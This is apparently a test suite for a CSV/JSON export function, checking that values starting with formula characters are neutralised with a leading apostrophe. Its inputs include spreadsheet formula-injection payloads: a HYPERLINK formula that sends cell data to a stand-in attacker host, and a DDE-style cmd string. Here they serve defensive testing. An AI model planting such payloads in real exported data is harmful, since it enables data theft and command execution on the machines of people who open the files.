import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ExportFormat, writeExport } from '../../../api/executions/export.ts';
import type { ExecutionPage } from '../../../service/index/lists.ts';
import { character, draws } from '../../seed.ts';

type Row = ExecutionPage['rows'][number];

const rowOf = (more: Partial<Row>): Row =>
  ({
    n: 1_800_000_000_000_000,
    workflowId: 'wf_x',
    ref: 'core.http',
    status: 'completed',
    parent: null,
    enforcement: null,
    executor: 1,
    created: new Date(0),
    updated: new Date(0),
    closed: null,
    errorCode: null,
    errorTask: null,
    fingerprint: null,
    error: null,
    result: null,
    ...more,
  }) as Row;

async function exported(row: Partial<Row>, format: ExportFormat = 'csv', raw = false, bom = false): Promise<string> {
  async function* pages() {
    yield [rowOf(row)];
  }
  let text = '';
  for await (const part of writeExport(format, { raw, bom }, pages())) text += part;
  return text;
}

/** Reads CSV as RFC 4180 has it, and refuses anything else. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  for (let at = 0; at < text.length; ) {
    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at));
    if (cell === null) throw new Error(`no cell at ${at}`);
    cells.push(cell[1]?.replaceAll('""', '"') ?? cell[2]!);
    if (cell[3] === '\r\n') {
      rows.push(cells);
      cells = [];
    }
    at += cell[0].length;
  }
  expect(cells).toEqual([]);
  return rows;
}
const lastCells = async (row: Partial<Row>, raw = false) => readCsv(await exported(row, 'csv', raw))[1]!.slice(-4, -1);

describe('a cell of CSV', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?x="&A2,"click")', '\'=HYPERLINK("http://evil.example/?x="&A2,"click")'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['-', "'-"],
    ['--1', "'--1"],
    ['-1e', "'-1e"],
    ['+0x10', "'+0x10"],
    ['-1', '-1'],
    ['+1.50', '+1.50'],
    ['-.5e+10', '-.5e+10'],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
    ["'=1", "'=1"],
    ['', ''],
  ])('%j is written as %j, wherever it comes from', async (text, written) => {
    expect(await lastCells({ result: JSON.stringify(text) })).toEqual(['', '', written]);
    expect((await lastCells({ error: text, errorCode: text })).slice(0, 2)).toEqual([written, written]);
    expect(await lastCells({ result: JSON.stringify(text) }, true)).toEqual(['', '', text]);
  });

  it.each([
    [-7, '-7'],
    [-1.5e-7, '-1.5e-7'],
    [['=1'], '["=1"]'],
    [{ '=1': '=2' }, '{"=1":"=2"}'],
  ])('%j is JSON', async (result, written) => {
    expect(await lastCells({ result: JSON.stringify(result) })).toEqual(['', '', written]);
  });

  it.each([
    ['x;=1+1', '"x;=1+1"'],
    ['x\t=1+1', '"x\t=1+1"'],
    ['x,=1+1', '"x,=1+1"'],
  ])('%j is one cell also for readers with other separators', async (text, written) => {
    expect(await exported({ result: JSON.stringify(text) })).toContain(`,${written},completed\r\n`);
  });

  it('is read back by a strict reader, and is no formula, whatever it holds', async () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '', '-1');
    const texts = fc.tuple(start, fc.string({ unit: character, maxLength: 20 })).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const [error] = (await lastCells({ error: text })).slice(1);
        expect([text, `'${text}`]).toContain(error);
        if (/^[=+\-@\t\r\n]/.test(error!)) expect(Number.isNaN(Number(error))).toBe(false);
        expect((await lastCells({ error: text }, true))[1]).toBe(text);
      }),
      { numRuns: draws(40) },
    );
  });
});

it('CSV begins with a byte order mark where that is asked for, and nothing else ever does', async () => {
  for (const raw of [false, true]) {
    const text = await exported({}, 'csv', raw, true);
    expect(text).toBe(`\uFEFF${await exported({}, 'csv', raw)}`);
    expect(text.startsWith('\uFEFFid,')).toBe(true);
    for (const format of ['json', 'ndjson'] as const) {
      expect(await exported({}, format, raw, true)).toBe(await exported({}, format, raw));
    }
  }
});

it.each(['json', 'ndjson'] as const)('%s never changes what it holds', async (format) => {
  for (const raw of [false, true]) {
    const parsed = JSON.parse(await exported({ result: '"=1"' }, format, raw));
    expect((Array.isArray(parsed) ? parsed[0] : parsed).result).toBe('=1');
  }
});
